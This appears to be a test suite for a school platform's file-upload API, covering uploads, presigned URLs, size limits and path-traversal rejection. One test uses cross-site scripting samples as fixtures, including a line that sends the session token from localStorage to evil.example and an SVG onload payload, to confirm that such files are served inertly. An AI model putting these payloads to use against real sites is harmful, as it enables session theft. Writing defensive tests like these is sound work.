import { createHash } from 'node:crypto';
import { ApiPaths, FILE_SIZE_LIMIT_BYTES, type ProjectDto } from '@school/contracts';
import { buildTestApp, loginAs } from '../test/test-app';
import { dataOf, errorOf } from '../test/body';
import { FILE_CSP } from './content-type';
import { png } from './test-png';
import { startFakeS3 } from './test-s3';

const md5 = (b: Buffer) => createHash('md5').update(b).digest('hex');

function multipart(name: string, bytes: Buffer, mime = 'image/png') {
  const boundary = '----schooltest' + Math.random().toString(16).slice(2);
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${mime}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, bytes, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe('files on local disk', () => {
  let ctx: Awaited<ReturnType<typeof buildTestApp>>;
  beforeAll(async () => {
    ctx = await buildTestApp();
  });
  afterAll(() => ctx.close());

  it('takes the same upload on the bare /api/files path of the spec', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const bytes = png('bare-path-' + Date.now());
    const form = multipart('bare.png', bytes);
    const res = await ctx.app.inject({ method: 'POST', url: ApiPaths.files, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect({ status: res.statusCode, type: res.headers['content-type'], body: res.body }).toEqual({
      status: 200,
      type: expect.stringMatching(/^text\/plain/) as unknown,
      body: md5(bytes),
    });
    const get = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(res.body), headers: s.auth });
    expect(get.rawPayload.equals(bytes)).toBe(true);
    expect((await ctx.app.inject({ method: 'POST', url: ApiPaths.files, headers: form.headers, payload: form.payload })).statusCode).toBe(401);
  });

  it('uploads a file, answers its md5 as text and serves it by md5', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const bytes = png('png-bytes-' + Date.now());
    const form = multipart('cover.png', bytes);
    const res = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    expect(res.body).toBe(md5(bytes));
    const get = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(res.body), headers: s.auth });
    expect(get.statusCode).toBe(200);
    expect(get.headers['content-type']).toBe('image/png');
    expect(get.rawPayload.equals(bytes)).toBe(true);
    // It belongs to nothing public: a visitor does not get it.
    expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.file(res.body) })).statusCode).toBe(404);
    const anonymous = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: form.headers, payload: form.payload });
    expect(anonymous.statusCode).toBe(401);
    const missing = await ctx.app.inject({ method: 'GET', url: ApiPaths.file('0'.repeat(32)) });
    expect(missing.statusCode).toBe(404);
  });

  it('never serves a student page or drawing as a live page of the site: opened it downloads, embedded it is sandboxed', async () => {
    const s = await loginAs(ctx.app, 'student1');
    // The client says it is a picture; the bytes say it is a page.
    const form = multipart('page.png', Buffer.from('<!doctype html><script>localStorage.clear()</script>' + Date.now()), 'image/png');
    const md5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload })).body;
    const page = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, 'sec-fetch-dest': 'document' } });
    expect(page.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(page.headers['content-disposition']).toBe("attachment; filename*=UTF-8''page.png");
    expect(page.headers['content-security-policy']).toBe(FILE_CSP);
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.headers.vary).toContain('Sec-Fetch-Dest');
    // Unknown destination (an old browser, a script): a download too.
    expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: s.auth })).headers['content-disposition']).toMatch(/^attachment/);
    // Our players embed it in <iframe sandbox>: it renders there, in an opaque origin.
    const framed = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, 'sec-fetch-dest': 'iframe' } });
    expect(framed.headers['content-type']).toBe('text/html');
    expect(framed.headers['content-disposition']).toBeUndefined();
    expect(framed.headers['content-security-policy']).toBe("sandbox allow-scripts allow-popups; frame-ancestors 'self'");
    const svg = multipart('cat.svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--${Date.now()}--></svg>`), 'image/svg+xml');
    const svgMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...svg.headers }, payload: svg.payload })).body;
    const drawing = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(svgMd5), headers: s.auth });
    expect(drawing.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(drawing.headers['content-disposition']).toMatch(/^attachment/);
    const pic = multipart('pic.html', png('png-' + Date.now()), 'text/html');
    const pngMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...pic.headers }, payload: pic.payload })).body;
    const picGet = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(pngMd5), headers: { ...s.auth, 'sec-fetch-dest': 'image' } });
    expect(picGet.headers['content-type']).toBe('image/png');
    expect(picGet.headers['content-security-policy']).toBe(FILE_CSP);
    expect(picGet.headers['content-disposition']).toBeUndefined();
  });

  it("a student's .js, .css, .html and .svg never run as script, style or page on the school's origin", async () => {
    const s = await loginAs(ctx.app, 'student1');
    const upload = async (name: string, text: string, clientType: string) => {
      const form = multipart(name, Buffer.from(`${text}\n/* ${Date.now()} ${Math.random()} */`), clientType);
      const res = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload });
      expect(res.statusCode).toBe(200);
      return res.body;
    };
    const get = (md5: string, dest?: string) =>
      ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, ...(dest ? { 'sec-fetch-dest': dest } : {}) } });
    const steal = "fetch('//evil.example/?' + localStorage.getItem('school.session'))";
    const js = await upload('steal.js', steal, 'text/javascript');
    const css = await upload('steal.css', 'body { background: url(//evil.example/x) }', 'text/css');
    const html = await upload('steal.html', `<!doctype html><script>${steal}</script>`, 'text/html');
    const svg = await upload('steal.svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`, 'image/svg+xml');

    // <script src="/api/files/…">, <link rel=stylesheet href=…>, or any other way: never a script or
    // style type (nosniff makes the browser refuse it), always a download, a sandbox without script.
    for (const md5 of [js, css, html, svg]) {
      for (const dest of ['script', 'style', 'document', 'empty', 'object', undefined]) {
        const res = await get(md5, dest);
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''steal\./);
        expect(res.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
        expect(res.headers['content-security-policy']).not.toContain('allow-scripts');
      }
    }
    // The bytes are intact for whoever fetches them (the Unity and Godot players run them in their sandboxed frame).
    expect((await get(js, 'empty')).body.startsWith(steal)).toBe(true);
    // Framed by our players: an opaque origin (no allow-same-origin) that only the school may frame.
    const framed = await get(html, 'iframe');
    expect(framed.headers['content-type']).toBe('text/html');
    expect(framed.headers['content-security-policy']).toMatch(/^sandbox allow-scripts allow-popups; frame-ancestors 'self'$/);
    // An SVG as <img> is a picture (no script runs in images); JS and CSS are never anything else in a frame.
    const picture = await get(svg, 'image');
    expect(picture.headers['content-type']).toBe('image/svg+xml');
    expect(picture.headers['content-disposition']).toBeUndefined();
    expect(picture.headers['content-security-policy']).toBe(FILE_CSP);
    for (const md5 of [js, css]) expect((await get(md5, 'iframe')).headers['content-type']).toBe('text/plain; charset=utf-8');

    // A teacher's page opened directly renders, but without script.
    const teacher = await loginAs(ctx.app, 'teacher');
    const lesson = multipart('lesson.html', Buffer.from(`<!doctype html><h1>Урок</h1><script>1</script>${Date.now()}`), 'text/html');
    const lessonMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...teacher.auth, ...lesson.headers }, payload: lesson.payload })).body;
    const opened = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(lessonMd5), headers: { ...teacher.auth, 'sec-fetch-dest': 'document' } });
    expect(opened.headers['content-type']).toBe('text/html');
    expect(opened.headers['content-disposition']).toBeUndefined();
    expect(opened.headers['content-security-policy']).toBe(FILE_CSP);

    // The generated covers are pictures too.
    const cover = await ctx.app.inject({ method: 'GET', url: ApiPaths.cover(1, 0) });
    expect(cover.headers['content-security-policy']).toBe(FILE_CSP);
  });

  it('refuses a file over 28 MB with the spec text', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const form = multipart('big.png', Buffer.alloc(FILE_SIZE_LIMIT_BYTES + 10, 1));
    const res = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res).message).toBe('Размер файла не должен превышать 28 мегабайт!');
  });

  it('runs the presigned flow: URL as text, PUT with ETag, download; expired and forged URLs fail', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const presign = await ctx.app.inject({
      method: 'GET',
      url: `${ApiPaths.filePresigned}?folder=covers&originalName=${encodeURIComponent('обложка.png')}`,
      headers: s.auth,
    });
    expect(presign.statusCode).toBe(200);
    const url = new URL(presign.body);
    const expires = Number(url.searchParams.get('expires'));
    // Default timeout 3600 s.
    expect(expires - Math.floor(Date.now() / 1000)).toBeGreaterThan(3590);
    const bytes = png('cover-bytes');
    const put = await ctx.app.inject({ method: 'PUT', url: url.pathname + url.search, payload: bytes, headers: { 'content-type': 'text/html' } });
    expect(put.statusCode).toBe(200);
    expect(put.headers.etag).toBe(`"${md5(bytes)}"`);
    // Single use: the URL is spent once the bytes have landed.
    const again = await ctx.app.inject({ method: 'PUT', url: url.pathname + url.search, payload: Buffer.from('<html>'), headers: { 'content-type': 'image/png' } });
    expect(again.statusCode).toBe(403);
    expect(errorOf(again).code).toBe('URL_USED');
    const id = url.pathname.split('/').pop()!;
    const get = await ctx.app.inject({ method: 'GET', url: ApiPaths.presignedFile(id), headers: s.auth });
    expect(get.rawPayload.equals(bytes)).toBe(true);
    expect(get.headers['content-type']).toBe('image/png');

    const forged = await ctx.app.inject({ method: 'PUT', url: `${url.pathname}?expires=${expires}&sig=AAAA`, payload: bytes, headers: { 'content-type': 'image/png' } });
    expect(forged.statusCode).toBe(403);

    const short = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=covers&originalName=a.png&timeout=1`, headers: s.auth });
    const shortUrl = new URL(short.body);
    await new Promise((r) => setTimeout(r, 2100));
    const late = await ctx.app.inject({ method: 'PUT', url: shortUrl.pathname + shortUrl.search, payload: bytes, headers: { 'content-type': 'image/png' } });
    expect(late.statusCode).toBe(403);
    expect(errorOf(late).code).toBe('URL_EXPIRED');

    const badFolder = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=../x&originalName=a.png`, headers: s.auth });
    expect(badFolder.statusCode).toBe(400);
    // Short-lived: an hour at most.
    const week = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=covers&originalName=a.png&timeout=604800`, headers: s.auth });
    expect(week.statusCode).toBe(400);
    const anonymous = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=covers&originalName=a.png` });
    expect(anonymous.statusCode).toBe(401);
  });

  it('refuses a presigned PUT over 28 MB', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const presign = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=covers&originalName=big.png`, headers: s.auth });
    const url = new URL(presign.body);
    const res = await ctx.app.inject({
      method: 'PUT',
      url: url.pathname + url.search,
      payload: Buffer.alloc(FILE_SIZE_LIMIT_BYTES + 1),
      headers: { 'content-type': 'image/png' },
    });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res).message).toBe('Размер файла не должен превышать 28 мегабайт!');
  });

  it('uploads into a folder through /s3/upload, answers the id and serves it by id and md5', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const bytes = Buffer.from('folder-upload-' + Date.now());
    const form = multipart('slides.png', bytes);
    const up = await ctx.app.inject({ method: 'POST', url: `${ApiPaths.fileS3Upload}?folder=materials`, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect(up.statusCode).toBe(200);
    expect(up.headers['content-type']).toMatch(/^text\/plain/);
    expect(up.body).toMatch(/^[0-9a-f-]{36}$/);
    expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.presignedFile(up.body), headers: s.auth })).rawPayload.equals(bytes)).toBe(true);
    expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5(bytes)), headers: s.auth })).rawPayload.equals(bytes)).toBe(true);
    const badFolder = await ctx.app.inject({ method: 'POST', url: `${ApiPaths.fileS3Upload}?folder=../etc`, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect(badFolder.statusCode).toBe(400);
    const anonymous = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileS3Upload, headers: form.headers, payload: form.payload });
    expect(anonymous.statusCode).toBe(401);
    const big = multipart('big.png', Buffer.alloc(FILE_SIZE_LIMIT_BYTES + 10, 1));
    const tooBig = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileS3Upload, headers: { ...s.auth, ...big.headers }, payload: big.payload });
    expect(tooBig.statusCode).toBe(413);
    expect(errorOf(tooBig).message).toBe('Размер файла не должен превышать 28 мегабайт!');
  });

  it('serves the seeded Scratch project and the recommended covers', async () => {
    const trend = await ctx.app.inject({ method: 'GET', url: ApiPaths.projectTrend });
    const scratch = dataOf<ProjectDto[]>(trend).find(
      (p) => p.projectType === 1 && p.resources.some((r) => r.name.endsWith('.sb3')),
    )!;
    const sb3 = await ctx.app.inject({ method: 'GET', url: scratch.resources.find((r) => r.name.endsWith('.sb3'))!.url });
    expect(sb3.statusCode).toBe(200);
    // A zip starts with PK.
    expect(sb3.rawPayload.subarray(0, 2).toString()).toBe('PK');
    const cover = await ctx.app.inject({ method: 'GET', url: ApiPaths.cover(1, 13) });
    expect(cover.headers['content-type']).toBe('image/svg+xml');
    expect(cover.body).toContain('Scratch');
    expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.cover(1, 14) })).statusCode).toBe(400);
  });
});

describe('files on S3 (s3rver)', () => {
  let ctx: Awaited<ReturnType<typeof buildTestApp>>;
  let s3: Awaited<ReturnType<typeof startFakeS3>>;
  beforeAll(async () => {
    s3 = await startFakeS3();
    ctx = await buildTestApp();
  });
  afterAll(async () => {
    await ctx.close();
    await s3.close();
  });

  it('uploads through the API and through a presigned PUT, then serves both', async () => {
    const s = await loginAs(ctx.app, 'student1');
    const bytes = Buffer.from('s3-upload-' + Date.now());
    const form = multipart('a.png', bytes);
    const up = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload });
    expect(up.body).toBe(md5(bytes));
    const get = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(up.body), headers: s.auth });
    expect(get.body).toBe(bytes.toString());

    // The upload URL is a one-time ticket of our gateway, which streams the bytes on to S3.
    const presign = await ctx.app.inject({ method: 'GET', url: `${ApiPaths.filePresigned}?folder=covers&originalName=b.png&timeout=60`, headers: s.auth });
    const url = new URL(presign.body);
    expect(url.pathname.startsWith('/api/files/s3/put/')).toBe(true);
    const direct = Buffer.from('direct-to-s3');
    const put = await ctx.app.inject({ method: 'PUT', url: url.pathname + url.search, payload: direct });
    expect(put.statusCode).toBe(200);
    expect(put.headers.etag).toBe(`"${md5(direct)}"`);
    const id = url.pathname.split('/').pop()!;
    const back = await ctx.app.inject({ method: 'GET', url: ApiPaths.presignedFile(id), headers: s.auth });
    expect(back.statusCode).toBe(200);
    expect(back.rawPayload.equals(direct)).toBe(true);
    // Its type from its bytes.
    expect(back.headers['content-type']).toBe('text/plain');

    const folderForm = multipart('c.png', Buffer.from('s3-folder-' + Date.now()));
    const inFolder = await ctx.app.inject({ method: 'POST', url: `${ApiPaths.fileS3Upload}?folder=materials`, headers: { ...s.auth, ...folderForm.headers }, payload: folderForm.payload });
    expect(inFolder.statusCode).toBe(200);
    const fromS3 = await ctx.app.inject({ method: 'GET', url: ApiPaths.presignedFile(inFolder.body), headers: s.auth });
    expect(fromS3.body).toMatch(/^s3-folder-/);
  });
});
